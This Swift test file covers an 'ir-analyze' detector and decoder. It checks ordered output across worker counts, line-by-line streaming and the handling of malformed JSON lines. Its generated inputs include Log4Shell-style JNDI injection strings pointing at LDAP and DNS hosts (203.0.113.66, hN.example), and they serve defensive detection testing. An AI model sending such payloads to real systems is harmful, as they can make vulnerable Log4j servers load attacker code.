import Foundation
import TestSupport
import Testing

/// `ir-analyze detect` and `decode`: lines in, lines out.
struct TextCommandTests {
  private func lines(_ result: ProgramResult) throws -> [[String: Any]] {
    try result.output.split(separator: "\n").map {
      try #require(JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any])
    }
  }

  /// Enough for many batches, with an attack in every third line.
  private var input: String {
    (0..<3000).map { number in
      let text = number.isMultiple(of: 3) ? "${jndi:ldap://203.0.113.66:1389/a\(number)}" : "ls -la /home/user\(number)"
      return "{\"id\": \(number), \"text\": \"\(text)\"}\n"
    }.joined()
  }

  @Test func answersComeInTheOrderOfTheLinesHoweverManyThreadsThereAre() throws {
    let input = input
    let result = try runProgram(irAnalyze, ["detect", "--jsonl"], input: input)
    #expect(result.status == 0 && result.errors.isEmpty)
    let told = try lines(result)
    #expect(told.map { $0["id"] as? Int } == (0..<3000).map { $0 })
    for (number, line) in told.enumerated() {
      let detections = try #require(line["detections"] as? [[String: Any]])
      #expect(detections.map { $0["path"] as? String } == (number.isMultiple(of: 3) ? ["/a\(number)"] : []))
    }
    for workers in ["1", "2", "7"] {
      #expect(try runProgram(irAnalyze, ["detect", "--workers", workers], input: input).output == result.output)
    }
    #expect(try runProgram(irAnalyze, ["detect", "--workers", "0"]).status == 64)
  }

  @Test func decodeTellsPayloadsInTheOrderOfTheLines() throws {
    let input = (0..<2000).map { "GET /?q=$%7Bjndi:dns://h\($0).example/%7D HTTP/1.1\nnothing\n" }.joined()
    let result = try runProgram(irAnalyze, ["decode"], input: input)
    #expect(result.status == 0 && result.errors.isEmpty)
    #expect(try lines(result).map { $0["host"] as? String } == (0..<2000).map { "h\($0).example" })
  }

  @Test func whoAsksLineByLineIsAnsweredLineByLine() throws {
    let process = Process()
    process.executableURL = URL(fileURLWithPath: irAnalyze)
    process.arguments = ["detect", "--jsonl"]
    let questions = Pipe()
    let answers = Pipe()
    process.standardInput = questions
    process.standardOutput = answers
    try process.run()
    for number in 0..<20 {
      try questions.fileHandleForWriting.write(contentsOf: Data("{\"id\": \(number), \"text\": \"id\"}\n".utf8))
      // Comes before anything else is asked, or this waits for ever.
      let answer = String(decoding: answers.fileHandleForReading.availableData, as: UTF8.self)
      #expect(answer == "{\"id\":\(number),\"detections\":[]}\n")
    }
    try questions.fileHandleForWriting.close()
    process.waitUntilExit()
    #expect(process.terminationStatus == 0)
  }

  @Test func aLineThatIsNoObjectIsAnsweredWithNothing() throws {
    let result = try runProgram(irAnalyze, ["detect", "--jsonl"], input: "no JSON\n\n{\"id\": \"last\"}")
    #expect(try lines(result).map { $0["id"] as? String } == [nil, nil, "last"])
    #expect(result.output.split(separator: "\n").allSatisfy { $0.hasSuffix(",\"detections\":[]}") })
  }
}
